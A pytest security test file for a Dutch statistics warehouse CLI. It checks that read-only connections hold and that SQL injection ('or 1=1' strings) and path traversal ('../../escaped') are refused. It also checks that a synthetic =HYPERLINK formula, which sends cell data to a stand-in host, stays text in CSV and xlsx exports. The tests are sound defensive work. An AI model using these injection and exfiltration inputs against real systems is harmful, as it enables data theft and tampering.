"""Security of the query and export paths and of live mode, on the end-to-end warehouse."""

from pathlib import Path

import duckdb
import pytest

from delivery.cli import EXIT_OK, EXIT_USAGE, main
from delivery.export import DeliveryError, extract, open_published, regions
from sources.config import load_settings
from tests.conftest import reliability_row


@pytest.fixture
def published(warehouse_path, monkeypatch):
    monkeypatch.setenv("ONTCIJFERD_WAREHOUSE", warehouse_path)
    return Path(warehouse_path)


def test_query_and_export_paths_open_the_warehouse_read_only(published, request):
    with open_published(published) as con, pytest.raises(duckdb.InvalidInputException) as err:
        con.execute("delete from marts.indicator_values")
    assert "read-only" in str(err.value)
    reliability_row(
        request,
        side="security",
        fault="a write through the query/export connection",
        injected="`delete from marts.indicator_values` on the connection export/report use",
        expected="refused: the connection is read-only",
        seen=str(err.value).splitlines()[0],
    )


def test_user_filters_are_parameters_never_sql(published, request):
    hostile = "2015' or '1'='1"
    with open_published(published) as con:
        # A period must look like one before it reaches any query ...
        with pytest.raises(DeliveryError, match="is geen periode") as refused:
            extract(con, ["bevolking_totaal"], ["PV23"], period_from=hostile)
        # ... and free text (a region search) is a query parameter: it matches nothing.
        found = regions(con, "zwolle' or '1'='1")
        assert len(regions(con, "zwolle")) == 1
    assert found.empty
    reliability_row(
        request,
        side="security",
        fault="SQL in a user filter",
        injected=f"export --from \"{hostile}\"; regions \"zwolle' or '1'='1\"",
        expected="a period that is not a period is refused; search text is a value (query "
        "parameters), never SQL",
        seen=f"{refused.value}; the search found {len(found)} regions",
    )


def test_exports_never_write_outside_the_folder_asked_for(published, tmp_path, capsys, request):
    out = tmp_path / "exports"
    before = set(tmp_path.rglob("*"))
    code = main(["export", "../../escaped", "--format", "csv", "--out", str(out)])
    assert code == EXIT_USAGE
    assert set(tmp_path.rglob("*")) == before  # nothing written anywhere
    code = main(["export", "bevolking_totaal", "--regions", "PV23", "--out", str(out)])
    assert code == EXIT_OK
    written = sorted(p.relative_to(tmp_path) for p in set(tmp_path.rglob("*")) - before)
    assert all(str(p).startswith("exports") for p in written)
    reliability_row(
        request,
        side="security",
        fault="an export naming a path instead of an indicator",
        injected="`ontcijferd export ../../escaped --out exports/`",
        expected="usage error (exit 2), nothing written; files only ever land in --out",
        seen=capsys.readouterr().err.strip().splitlines()[0],
    )


def test_live_mode_talks_https_to_cbs_only(tmp_path, request):
    config = tmp_path / "plain-http.yaml"
    config.write_text("source: live\nlive:\n  catalog_url: opendata.cbs.nl\n  use_https: false\n")
    with pytest.raises(ValueError, match="live mode talks HTTPS to CBS") as err:
        load_settings({"ONTCIJFERD_CONFIG": str(config)})
    assert load_settings({}).live.use_https
    reliability_row(
        request,
        side="security",
        fault="live mode configured for plain HTTP to CBS",
        injected="`live.use_https: false` with catalog_url opendata.cbs.nl",
        expected="refused at start-up; only a local test server may use HTTP",
        seen=str(err.value),
    )


HOSTILE_NAME = '=HYPERLINK("http://example.invalid/?"&A1,"Zwolle")'


@pytest.mark.parametrize("fmt", ["csv", "csv-nl", "xlsx"])
def test_a_region_name_that_is_a_formula_stays_text_in_exports(
    warehouse_path, tmp_path, monkeypatch, fmt, request
):
    """SYNTHETIC hostile name: Zwolle's name in a copy of the warehouse replaced by a formula,
    as a source file could deliver it."""
    import shutil

    import openpyxl
    import pandas as pd

    copy = tmp_path / "hostile.duckdb"
    shutil.copyfile(warehouse_path, copy)
    con = duckdb.connect(str(copy))
    for (table,) in con.execute(
        "select table_schema || '.' || table_name from information_schema.columns "
        "where table_schema = 'marts' and column_name = 'region_name' "
        "and table_name in (select table_name from duckdb_tables())"
    ).fetchall():
        con.execute(
            f"update {table} set region_name = ? where region_code = 'GM0193'", [HOSTILE_NAME]
        )
    con.close()
    monkeypatch.setenv("ONTCIJFERD_WAREHOUSE", str(copy))
    out = tmp_path / "out"
    args = ["export", "bevolking_totaal", "--regions", "GM0193", "--format", fmt, "--out", str(out)]
    assert main(args) == EXIT_OK
    [data] = [
        p
        for p in out.iterdir()
        if p.suffix == {"csv-nl": ".csv"}.get(fmt, f".{fmt}") and "_toelichting" not in p.name
    ]
    if fmt == "csv":
        names = set(pd.read_csv(data)["region_name"])
        assert names == {"'" + HOSTILE_NAME}  # OWASP: a leading ' so it is never run
        seen = f"CSV cell: {next(iter(names))}"
    elif fmt == "csv-nl":
        names = set(pd.read_csv(data, sep=";", encoding="utf-8-sig")["regio"])
        assert names == {"'" + HOSTILE_NAME}  # OWASP: a leading ' so it is never run
        seen = f"CSV cell: {next(iter(names))}"
    else:
        sheet = openpyxl.load_workbook(data).worksheets[0]
        header = [c.value for c in sheet[1]]
        cell = sheet.cell(2, header.index("regio") + 1)
        assert (cell.value, cell.data_type) == (HOSTILE_NAME, "s")  # text, not a formula
        seen = f"xlsx cell type {cell.data_type!r} (text), value shown as it is"
    reliability_row(
        request,
        side="security",
        fault=f"a region name that is a formula, exported as {fmt}",
        injected=f"region_name {HOSTILE_NAME!r} (SYNTHETIC, in a copy of the warehouse)",
        expected="the cell stays text: never a formula in the spreadsheet",
        seen=seen,
    )
